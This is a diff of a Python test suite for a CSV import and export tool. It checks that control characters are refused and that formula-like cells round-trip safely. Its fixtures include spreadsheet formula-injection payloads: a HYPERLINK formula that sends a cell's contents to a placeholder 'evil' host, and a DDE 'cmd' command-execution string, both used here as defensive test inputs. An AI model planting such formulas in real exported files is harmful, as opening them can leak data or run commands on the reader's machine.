@@ -17,7 +17,7 @@ FORBIDDEN = ("\x1b", "\x07", "\u009b")
 # Twelve bytes, then euros of three bytes each: byte 2,000 falls inside a euro sign.
 CROSSING_CUT = "Quokkazebra " + "€" * 700
 FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-2+3",
-            "@SUM(A1)", "\tTAB", "'=already guarded"]
+            "@SUM(A1)", "'=already guarded", "''+twice"]
 
 
 def ids(rows):
@@ -50,7 +50,7 @@ class Search(SileramTestCase):
         first = int(self.submit("Levering te laat", EXAMPLE_BY, "-d", CROSSING_CUT))
         created = self.fx.js("submit", "Iets anders", "--by", "b@example.org", "-d", CROSSING_CUT)
         self.assertEqual([s["id"] for s in created["similar"]], [first])
-        self.assertEqual(created["similar"][0]["similarity"], 1.0)
+        self.assertEqual(created["similar"][0]["score"], 1.0)
 
 
 class ControlCharacters(SileramTestCase):
@@ -100,11 +100,12 @@ class ControlCharacters(SileramTestCase):
         self.assertEqual(self.show(sid)["description"], "regel 1\r\n\tregel 2")
 
     def test_import_names_row_and_column(self):
+        self.submit()
         path = os.path.join(self.tmp, "in.csv")
         with open(path, "w", encoding="utf-8", newline="") as f:
             f.write("title,submitted_by,channel\r\ngoed,a@example.org,mail\r\n"
                     "goed,a@example.org,mail\x1b[2J\r\n")
-        self.assert_refused(2, ["submit", "--from", path], "row 2", "channel", "\\x1b")
+        self.assert_refused(2, ["submit", "--from", path], "row 3, column channel", "\\x1b")
         with open(path, "w", encoding="utf-8", newline="") as f:
             f.write("name,revenue,segment\r\nAcme,10,b2b\r\nBeta,5,b2b\x07\r\n")
         self.assert_refused(2, ["customer", "import", path], "row 3", "segment", "\\x07")
@@ -162,16 +163,20 @@ class CsvFormulas(SileramTestCase):
         for cell in row:
             self.assertFalse(cell.startswith("'"), cell)
 
+    def titles_and_descriptions(self):
+        lines = self.ok("export").splitlines()
+        return sorted((s["title"], s["description"]) for s in map(json.loads, lines))
+
     def test_export_reads_back_unchanged(self):
         for text in FORMULAS:
             self.submit(text, EXAMPLE_BY, "-d", text)
         path = os.path.join(self.tmp, "export.csv")
         with open(path, "w", encoding="utf-8", newline="") as f:
             f.write(self.ok("export", "--csv"))
-        before = sorted((s["title"], s["description"]) for s in self.fx.js("export"))
+        before = self.titles_and_descriptions()
         self.fx.db = os.path.join(self.tmp, "copy.db")
         self.ok("submit", "--from", path, "--map", "submitted_by=submitted_by")
-        after = sorted((s["title"], s["description"]) for s in self.fx.js("export"))
+        after = self.titles_and_descriptions()
         self.assertEqual(after, before)
 
 
